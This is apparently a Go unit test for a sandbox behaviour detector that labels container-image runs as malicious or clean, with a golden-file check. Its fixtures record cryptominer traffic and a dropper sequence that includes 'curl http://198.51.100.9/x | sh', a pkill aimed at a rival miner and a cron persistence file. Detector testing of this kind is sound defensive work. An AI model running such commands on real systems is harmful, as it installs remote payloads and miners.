package behaviour_test

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/strata-sec/strata/detectors"
	"github.com/strata-sec/strata/detectors/behaviour"
	"github.com/strata-sec/strata/internal/sandbox"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

var probeOrigin = map[string]sandbox.Origin{
	"/usr/bin/probe": {Layer: 1, DiffID: "sha256:1111", CreatedBy: "COPY probe /usr/bin/probe"},
	"/bin/sh":        {Layer: 0, DiffID: "sha256:0000", CreatedBy: "ADD rootfs /"},
}

func TestJudge(t *testing.T) {
	tests := []struct {
		name string
		obs  sandbox.Observations
		want detectors.Decision
	}{
		{"xmrig-login", sandbox.Observations{
			Origins:   probeOrigin,
			Processes: []sandbox.Process{{PID: 1, Exe: "/usr/bin/probe", Argv: []string{"probe", "-o", "pool.example.com:3333"}}},
			DNS:       []sandbox.DNSQuery{{Name: "pool.example.com", Type: "A", Answer: "127.1.0.1"}},
			Connections: []sandbox.Connection{{Dest: "127.1.0.1:3333", Host: "pool.example.com", Port: 3333, Protocol: "stratum",
				FirstBytes: `"{\"id\":1"`, Exe: "/usr/bin/probe"}},
			Stratum: []sandbox.StratumMessage{{Dest: "pool.example.com:3333", Method: "login", User: "4TESTWALLET", Pass: "x", Agent: "XMRig/6.21.0", Algo: []string{"rx/0"}, Exe: "/usr/bin/probe"},
				{Dest: "pool.example.com:3333", Method: "submit", Exe: "/usr/bin/probe"}},
			Wall: 20 * time.Second, CPUSeconds: 19.5, TimedOut: true, ExitCode: -1,
		}, detectors.Malicious},
		{"dropper-without-pool", sandbox.Observations{
			Origins: probeOrigin,
			Processes: []sandbox.Process{{PID: 1, Exe: "/bin/sh", Argv: []string{"/bin/sh", "-c", "curl http://198.51.100.9/x | sh"}},
				{PID: 9, Exe: "/bin/sh", Argv: []string{"sh", "-c", "echo 1280 > /proc/sys/vm/nr_hugepages"}},
				{PID: 10, Exe: "/usr/bin/pkill", Argv: []string{"pkill", "-f", "kdevtmpfsi"}}},
			HTTP:   []sandbox.HTTPRequest{{Dest: "198.51.100.9:80", Method: "GET", Host: "198.51.100.9", Path: "/x", UserAgent: "curl/7.88.1", Exe: "/usr/bin/curl"}},
			Files:  []sandbox.FileWrite{{Path: "/etc/cron.d/x", Size: 40}, {Path: "/tmp/x", Size: 10}},
			Stderr: "sh: 1: cannot create /proc/sys/vm/nr_hugepages: Read-only file system\n",
			Wall:   20 * time.Second, CPUSeconds: 18, TimedOut: true,
		}, detectors.Malicious},
		{"web-server", sandbox.Observations{
			Origins:   probeOrigin,
			Processes: []sandbox.Process{{PID: 1, Exe: "/usr/bin/probe", Argv: []string{"probe", "serve"}}},
			Wall:      20 * time.Second, CPUSeconds: 0.1, TimedOut: true,
		}, detectors.Clean},
		{"prints-and-exits", sandbox.Observations{
			Origins:   probeOrigin,
			Processes: []sandbox.Process{{PID: 1, Exe: "/usr/bin/probe", Argv: []string{"probe", "benign"}}},
			Wall:      300 * time.Millisecond, CPUSeconds: 0.3,
		}, detectors.Clean},
		{"rootfs-cut", sandbox.Observations{RootfsLimit: "byte limit 2147483648 reached at /big", Wall: time.Second}, detectors.Incomplete},
		{"integrity", sandbox.Observations{Origins: probeOrigin,
			Processes:       []sandbox.Process{{PID: 1, Exe: "/usr/bin/probe", Argv: []string{"probe", "benign"}}},
			RootfsIntegrity: []string{"layer 1: digest-mismatch: uncompressed content hashes to sha256:00, the config's diffID says sha256:11"},
			Wall:            time.Second}, detectors.Invalid},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := behaviour.Judge(&tt.obs)
			if v.Decision != tt.want {
				t.Errorf("decision %s (score %g), want %s", v.Decision, v.Score, tt.want)
			}
			got, err := json.MarshalIndent(v, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", tt.name+".golden")
			if *update {
				if err := os.WriteFile(golden, append(got, '\n'), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create)", err)
			}
			if string(want) != string(got)+"\n" {
				t.Errorf("verdict differs from %s (rerun with -update if intended):\n%s", golden, got)
			}
		})
	}
}
